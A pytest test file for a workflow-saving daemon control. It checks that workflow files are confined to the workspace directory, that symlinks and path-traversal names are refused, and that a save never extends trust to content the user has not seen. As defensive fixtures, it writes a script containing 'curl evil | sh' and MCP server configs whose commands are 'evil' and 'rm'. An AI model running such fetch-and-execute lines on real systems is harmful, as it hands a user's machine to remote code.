"""ctl.workflows.save: a workflow file is written whole, only under the workspace's own
`.reliant/workflows/` (never through a link), and a project the user trusted before stays trusted for
exactly the new content — never for anything else that changed meanwhile."""

from __future__ import annotations

import json
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from reliant.daemon.role import DaemonRouter
from reliant.daemon.tools import BUILTIN_TOOLS, ToolHost
from reliant.daemon.trust import TrustState, TrustStore, snapshot
from reliant.daemon.workflow_files import WorkflowFiles
from reliant.daemon.workflow_save import WorkflowSaver

FLOW = "name: mine\nentry: a\nnodes:\n  - {id: a, type: run, command: echo hi}\n"


class Daemon:
    def __init__(self, data: Path) -> None:
        self.store = TrustStore(data)
        self.host = ToolHost("d-save", BUILTIN_TOOLS, workspace_file=data / "workspaces.json")
        self.router = DaemonRouter(self.host)
        self.refreshed: list[Path] = []
        self.saver = WorkflowSaver(self.store, self._refresh)
        self.router.register(WorkflowFiles(self.store).controls(self.host.workspace_for))
        self.router.register(self.saver.controls(self.host.workspace_for))

    async def _refresh(self, root: Path) -> None:
        self.refreshed.append(root)

    async def ask(self, subject: str, **body: Any) -> Any:
        return json.loads(await self.router.handle(f"ctl.{subject}", json.dumps(body).encode()))


@pytest.fixture
async def daemon(tmp_path: Path, workspace: Path) -> AsyncIterator[Daemon]:
    d = Daemon(tmp_path / "data")
    assert (await d.ask("workspace.add", path=str(workspace)))["ok"]
    yield d
    await d.host.shutdown()


def trust_now(daemon: Daemon, workspace: Path) -> None:
    daemon.store.grant(workspace, snapshot(workspace).fingerprint)


async def test_a_new_file_in_a_project_with_nothing_to_trust_is_written_and_trusted(
    daemon: Daemon, workspace: Path
) -> None:
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=FLOW)
    path = workspace / ".reliant" / "workflows" / "mine.yaml"
    assert answer["ok"] and answer["path"] == str(path) and answer["created"]
    assert path.read_text() == FLOW
    assert answer["trust"] == "trusted" and answer["trust_renewed"]
    assert "nothing to trust before" in answer["note"]
    assert daemon.refreshed == [workspace]
    read = await daemon.ask("workflows.read", workspace=str(workspace))
    assert [w["name"] for w in read["workflows"]] == ["mine"]
    assert [p for p in os.listdir(path.parent) if p.endswith(".tmp")] == []


async def test_a_trusted_project_stays_trusted_for_exactly_the_saved_content(daemon: Daemon, workspace: Path) -> None:
    (workspace / ".reliant" / "workflows").mkdir(parents=True)
    (workspace / ".reliant" / "workflows" / "mine.yaml").write_text("name: mine\n")
    (workspace / ".reliant" / "mcp.json").write_text('{"mcpServers": {}}')
    trust_now(daemon, workspace)
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=FLOW)
    assert answer["ok"] and not answer["created"] and answer["trust"] == "trusted" and answer["trust_renewed"]
    assert "stays trusted" in answer["note"]
    assert daemon.store.state(snapshot(workspace)) is TrustState.TRUSTED
    (workspace / ".reliant" / "mcp.json").write_text('{"mcpServers": {"x": {"command": "evil"}}}')
    assert daemon.store.state(snapshot(workspace)) is TrustState.CHANGED  # only that content was trusted


async def test_an_untrusted_project_is_not_trusted_by_a_save(daemon: Daemon, workspace: Path) -> None:
    (workspace / ".reliant").mkdir()
    (workspace / ".reliant" / "mcp.json").write_text('{"mcpServers": {}}')
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=FLOW)
    assert answer["ok"] and answer["trust"] == "untrusted" and not answer["trust_renewed"]
    assert "not trusted" in answer["note"] and "reliant trust" in answer["note"]
    assert (await daemon.ask("workflows.read", workspace=str(workspace)))["workflows"] == []


async def test_a_change_by_someone_else_during_the_save_is_not_trusted_on_the_users_behalf(
    daemon: Daemon, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (workspace / ".reliant").mkdir()
    (workspace / ".reliant" / "mcp.json").write_text('{"mcpServers": {}}')
    trust_now(daemon, workspace)
    from reliant.daemon import workflow_save

    real = workflow_save.write_workflow

    def and_a_pull(root: Path, name: str, data: bytes) -> tuple[Path, bool]:
        (root / ".reliant" / "mcp.json").write_text('{"mcpServers": {"pulled": {"command": "rm"}}}')
        return real(root, name, data)

    monkeypatch.setattr(workflow_save, "write_workflow", and_a_pull)
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=FLOW)
    assert answer["ok"] and answer["trust"] == "changed" and not answer["trust_renewed"]
    assert "changed while it was saved" in answer["note"]


@pytest.mark.parametrize("link", [".reliant", ".reliant/workflows", ".reliant/workflows/mine.yaml"])
async def test_a_symlink_on_the_way_is_never_followed(
    daemon: Daemon, workspace: Path, tmp_path: Path, link: str
) -> None:
    outside = tmp_path / "outside"
    (outside / "workflows").mkdir(parents=True)
    theirs = outside / "workflows" / "mine.yaml"
    theirs.write_text("theirs\n")
    (workspace / link).parent.mkdir(parents=True, exist_ok=True)
    (workspace / link).symlink_to(theirs if link.endswith(".yaml") else outside)
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=FLOW)
    assert not answer["ok"] and ("symlink" in answer["error"] or "not a regular file" in answer["error"])
    assert theirs.read_text() == "theirs\n" and sorted(p.name for p in outside.rglob("*")) == ["mine.yaml", "workflows"]


@pytest.mark.parametrize("name", ["", "../escape", "a/b", ".hidden", "x" * 65, "ok.yaml", "nul\0"])
async def test_a_name_that_is_not_a_plain_file_name_is_refused(daemon: Daemon, workspace: Path, name: str) -> None:
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name=name, text=FLOW)
    assert not answer["ok"] and "not a workflow file name" in answer["error"]
    assert not (workspace / ".reliant").exists()


async def test_an_unregistered_workspace_and_a_huge_text_are_refused(
    daemon: Daemon, workspace: Path, tmp_path: Path
) -> None:
    other = await daemon.ask("workflows.save", workspace=str(tmp_path), name="mine", text=FLOW)
    assert not other["ok"] and "not registered" in other["error"]
    huge = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text="#" * (1024 * 1024 + 1))
    assert not huge["ok"] and "the limit is" in huge["error"]
    assert not (workspace / ".reliant").exists()


async def test_a_saved_workflow_that_runs_a_script_not_trusted_as_it_is_does_not_renew_the_trust(
    daemon: Daemon, workspace: Path
) -> None:
    (workspace / ".reliant" / "workflows").mkdir(parents=True)
    (workspace / ".reliant" / "workflows" / "mine.yaml").write_text(FLOW)
    (workspace / "scripts").mkdir()
    (workspace / "scripts" / "check.sh").write_text("curl evil | sh\n")  # pulled, never shown to the user
    trust_now(daemon, workspace)
    text = FLOW.replace("echo hi", "bash scripts/check.sh")
    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=text)
    assert answer["ok"] and not answer["trust_renewed"] and answer["trust"] == "changed"
    assert answer["note"].startswith("the saved workflow runs scripts/check.sh of the project")
    assert (await daemon.ask("workflows.read", workspace=str(workspace)))["workflows"] == []
